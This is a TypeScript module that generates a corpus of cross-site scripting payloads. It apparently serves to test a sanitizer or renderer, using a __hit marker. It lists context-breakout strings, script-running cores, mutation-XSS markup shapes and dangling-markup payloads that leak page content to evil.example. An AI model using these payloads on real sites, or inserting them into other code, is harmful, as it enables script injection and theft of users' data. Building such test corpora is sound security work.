import { combine } from './combine.ts';
import type { Payload } from './payload.ts';

/** Ends of what a text may have been written into. */
const ENDS: readonly string[] = [
  '"></a>«core»',
  "'></a>«core»",
  '` >«core»',
  '" «attribute» x="',
  "' «attribute» x='",
  '</title>«core»',
  '</textarea>«core»',
  '</style>«core»',
  '</script>«core»<script>',
  '</ScRiPt\n>«core»',
  '</noscript>«core»',
  '</xmp></listing>«core»',
  '</template>«core»',
  '</select></option>«core»',
  '</svg></math>«core»',
  '</code></pre>«core»<pre><code>',
  '</p></li></ol></dialog></ibid-ask>«core»',
  '-->«core»<!--',
  '--!>«core»',
  '<!-->«core»',
  '<![CDATA[x]]>«core»',
  ']]>«core»<![CDATA[',
  '?>«core»<?php',
  '*/</style>«core»/*',
  '\u0000«core»',
  '&lt;/p&gt;«core»',
  '%3C%2Fp%3E«core»',
  '\r\n\r\n«core»',
  '\n\ndata: «core»\n\nevent: run-end\n\n',
  '"}]}«core»{"a":["',
];

const CORES: readonly string[] = [
  '<img src=x onerror=__hit(«id»)>',
  '<svg onload=__hit(«id»)>',
  '<script>__hit(«id»)</script>',
  '<img src=//evil.example/«id»>',
  '<a href="javascript:__hit(«id»)">x</a>',
  '<iframe srcdoc="<script>top.__hit(«id»)</script>"></iframe>',
];

/** Markup that is another one once it was written out and read again. */
const MUTATIONS: readonly string[] = [
  '<table><a>«core»<tr></a></table>',
  '<table><caption><select><option>«core»</table>',
  '<svg></p><style><a id="</style>«core»">',
  '<math><mtext><table><mglyph><style><!--</style>«core»-->',
  '<form><math><mtext></form><form><mglyph><style></math>«core»',
  '<noscript><style></noscript>«core»</style>',
  '<svg><style>&lt;/style&gt;«core»</style></svg>',
  '<svg><title><style><img title="</style>«core»"></title></svg>',
  '<pre>\n\n<code>«core»</code></pre>',
  '<listing>&lt;img&gt;«core»</listing>',
  '<xmp><p title="</xmp>«core»">',
  '<select><template>«core»</template></select>',
  '<p><plaintext></p>«core»',
  '<b><i><u></b>«core»</i></u>',
  '<a><svg><desc><a>«core»</desc></svg></a>',
  '<div id="&quot;>«core»">x</div>',
  '<!-- a --!>«core»<!-- -->',
  '<p title="`«core»`">x</p>',
  '<annotation-xml encoding="text/html">«core»</annotation-xml>',
  '<frameset>«core»</frameset>',
];

/** Markup without an end, which swallows what follows and sends it along. */
const DANGLING: readonly Payload[] = [
  "<img src='//evil.example/«id»?",
  '<img src="//evil.example/«id»?',
  '<a href="//evil.example/«id»" target="',
  "<base target='//evil.example/«id»",
  '<textarea name=q form=x>//evil.example/«id»',
  '<form action=//evil.example/«id»><button>x</button><textarea name=q>',
  '<button form=f formaction=//evil.example/«id»><select name=q><option>',
  '<style>@import//evil.example/«id»?',
  "<meta http-equiv=refresh content='0;url=//evil.example/«id»?",
  "<link rel=stylesheet href='//evil.example/«id»?",
  "<table background='//evil.example/«id»?",
  '<script>x=`//evil.example/«id»',
].map((template) => ({ name: 'dangling', template }));

export const BREAKOUTS: readonly Payload[] = [
  ...ENDS.flatMap((end) =>
    end.includes('«attribute»')
      ? ['onfocus=__hit(«id») autofocus', 'onerror=__hit(«id») src=x', 'style=background:url(//evil.example/«id»)'].map(
          (attribute) => ({ name: 'breakout/attribute', template: end.replace('«attribute»', attribute) }),
        )
      : combine({ kind: 'breakout', carriers: [end], slot: '«core»', fillings: CORES, each: 6 }),
  ),
  ...MUTATIONS.flatMap((shape) =>
    combine({ kind: 'mutation', carriers: [shape], slot: '«core»', fillings: CORES, each: 6 }),
  ),
  ...DANGLING,
];
